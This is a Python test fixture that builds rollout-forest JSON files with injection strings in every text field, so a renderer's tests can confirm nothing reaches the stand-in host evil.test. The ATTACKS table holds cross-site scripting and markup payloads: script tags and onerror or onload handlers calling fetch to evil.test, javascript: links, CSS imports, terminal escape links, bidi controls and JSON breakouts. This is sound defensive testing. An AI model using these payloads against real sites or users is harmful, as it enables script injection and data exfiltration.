"""Files that try to be more than text: hostile words in every field of the native format that may hold words.

Each attack names `evil.test`, so that a test can look for requests and links to it, and holds the mark of its field.
"""

from __future__ import annotations

from typing import Any

import orjson

from treecore.core.columns import NODE_COLUMNS, TOKEN_COLUMNS
from treecore.formats.native_fields import MAP_FIELDS, OBJECT_FIELDS, TEXT_FIELDS, VERSION

HOST = "evil.test"
ATTACKS = {
    "markdown image": f"![MARK](https://{HOST}/MARK.png)",
    "markdown image without a scheme": f"![MARK](//{HOST}/MARK.png)",
    "markdown link": f"[MARK](https://{HOST}/MARK)",
    "markdown link with a title": f'[MARK](<https://{HOST}/MARK> "MARK")',
    "reference link": f"[MARK][r]\n\n[r]: https://{HOST}/MARK",
    "script link": f"[MARK](javascript:fetch('https://{HOST}/MARK'))",
    "bare address": f"MARK https://{HOST}/MARK www.{HOST}/MARK mark@{HOST}",
    "autolink": f"<https://{HOST}/MARK>",
    "escaped": f"\\[MARK](https://{HOST}/MARK) \\\\[MARK](https://{HOST}/MARK) \\\\\\![MARK](https://{HOST}/MARK.png)",
    "html image": f'MARK<img src="https://{HOST}/MARK.png" onerror="fetch(\'https://{HOST}/MARK\')">',
    "html in an attribute": f"\"'><img src=https://{HOST}/MARK.png><a title='MARK",
    "script": f"MARK</script></style></textarea><script>fetch('https://{HOST}/MARK')</script>",
    "style": f"MARK<style>@import 'https://{HOST}/MARK.css';</style>",
    "svg": f"MARK<svg onload=\"fetch('https://{HOST}/MARK')\"><image href='https://{HOST}/MARK.png'/></svg>",
    "entities": f"MARK &lt;img src=https://{HOST}/MARK.png&gt; &#91;MARK&#93;&#40;https://{HOST}/MARK&#41;",
    "icons": f"MARK :material/delete: :streamlit: :smile: https://{HOST}",
    "directives": f":red[MARK] :blue-background[MARK] :small[MARK] :green-badge[MARK https://{HOST}]",
    "mathematics": f"MARK $x$ $$\\href{{https://{HOST}/MARK}}{{x}}$$ \\(y\\) \\includegraphics{{https://{HOST}/MARK.png}}",
    "formatting": f"# MARK\n\n* MARK\n1. MARK\n\n> MARK\n\n---\n**MARK** _MARK_ ~~MARK~~ `MARK` | a | b |\n https://{HOST}",
    "code fence": f"```MARK\nhttps://{HOST}/MARK\n```",
    "template": f"%{{x}} %{{hovertext}} MARK {{MARK}} {{{{MARK}}}} ${{MARK}} %s %(MARK)s https://{HOST}",
    "rich markup": f"[bold red]MARK[/] [link=https://{HOST}/MARK]MARK[/link] [@click=app.quit]MARK[/]",
    "terminal": f"\x1b[31mMARK\x1b]8;;https://{HOST}/MARK\x07MARK\x1b]8;;\x07\x1b]0;MARK\x07\x9b31m\r\x08",
    "direction": f"\u202eMARK\u202c \u2066MARK\u2069 \u200f\u061c MARK https://{HOST}",
    "nothing and controls": f"MARK\x00\x01\x0b\x0c\x7f\x85\u2028\u2029\ufeff\ufffe\uffff https://{HOST}",
    "json": f'MARK"}}],"x":[{{"\\u0000MARK": "https://{HOST}/MARK"}}',
    "address": f"?node=MARK&view=rollout#MARK/../../%2e%2e/%00 https://{HOST}/MARK",
    "names of objects": f"__proto__ constructor prototype __class__ MARK https://{HOST}",
}
"""What is tried -> the words; `MARK` stands for the field."""
EVERY = "every attack in turn"
"""Stands for all of them, each field with the next one."""


class Marks:
    """Hands out the attack's words, each time with the mark of a field, and remembers the marks.

    Args:
        attack: of `ATTACKS`, or `EVERY`.
    """

    def __init__(self, attack: str) -> None:
        self.words = list(ATTACKS.values()) if attack == EVERY else [ATTACKS[attack]]
        self.given = dict[str, str]()

    def __call__(self, field: str) -> str:
        mark = self.given.setdefault(field, f"h{len(self.given)}z")
        return self.words[int(mark[1:-1]) % len(self.words)].replace("MARK", mark)


def hostile_forest(attack: str) -> tuple[dict[str, Any], dict[str, str]]:
    """A valid native forest, and field -> the mark that stands in its words.

    It has two trees, a fork of two right and one wrong leaf, tool calls, tokens, claimed credit and fields
    beyond the format, so that every part of a page has something to show.
    """
    marks = Marks(attack)
    forest: dict[str, Any] = {"format": VERSION, **{name: marks(name) for name in TEXT_FIELDS}}
    for name in OBJECT_FIELDS:
        forest[name] = {
            **dict.fromkeys(("name", "model", "title", "bias", "version"), marks(f"{name}.name")),
            "seed": marks(f"{name}.seed"),
            "temperature": marks(f"{name}.temperature"),
            "parameters": {marks(f"{name} parameter"): marks(f"{name} parameter value")},
            marks(f"{name} field"): [marks(f"{name} value"), {marks(f"{name} inner field"): None}],
        }
    forest[marks("foreign field")] = {marks("foreign inner field"): [marks("foreign value")]}
    parents = (None, 0, 1, 1, 1, None, 5, 6, 6)
    forest["nodes"] = [
        node(marks, row, above, above is not None and row not in parents) for row, above in enumerate(parents)
    ]
    return forest, marks.given


def node(marks: Marks, row: int, above: int | None, leaf: bool) -> dict[str, Any]:
    """One node, hostile in all its fields; roots have no words of their own."""
    name = lambda number: f"{marks('nodes[].id')} {number}"  # noqa: E731
    made: dict[str, Any] = {"id": name(row), "parent": None if above is None else name(above)}
    if above is None:
        return made
    made |= {
        column.name: f"{marks(f'nodes[].{column.name}')} {row}" for column in NODE_COLUMNS if column.kind == "text"
    }
    made["tokens"] = {
        **{column.name: [marks(f"tokens.{column.name}"), "b"] for column in TOKEN_COLUMNS if column.kind == "text"},
        "logprob": [-0.5, -1.0],
        "entropy": [0.5, 1.0],
        "confidence": [9.0, 8.0],
        "top": [[[marks("tokens.top"), -0.5], ["b", -1.0]], None],
        marks("foreign token column"): [marks("foreign token value"), None],
    }
    for field in MAP_FIELDS:
        made[field] = {marks(f"nodes[].{field} name"): 0.5}
    made["tool_calls"] = [
        {
            "id": marks("tool_calls.id"),
            "type": "function",
            "function": {"name": marks("tool_calls.name"), "arguments": marks("tool_calls.arguments")},
        },
        {"name": marks("tool_calls.name"), "arguments": {marks("argument name"): marks("argument value")}},
    ]
    made[marks("nodes[] foreign field")] = marks("nodes[] foreign value")
    if leaf:
        made |= {"reward": float(row % 2), "status": "terminated"}
    return made


def tagged_forest(attack: str) -> dict[str, Any]:
    """The same with the words of every step inside think, call and answer tags."""
    forest, _ = hostile_forest(attack)
    for one in forest["nodes"]:
        if words := one.get("text"):
            one["text"] = f"<think>{words}</think><tool_call>{words}</tool_call><answer>{words}</answer>"
            one["observation"] = f"<information>{words}</information>"
    return forest


def hostile_file(attack: str) -> bytes:
    """The forest as the content of a `.forest.json` file."""
    return orjson.dumps(hostile_forest(attack)[0])


def tagged_file(attack: str) -> bytes:
    """The tagged one as the content of such a file."""
    return orjson.dumps(tagged_forest(attack))
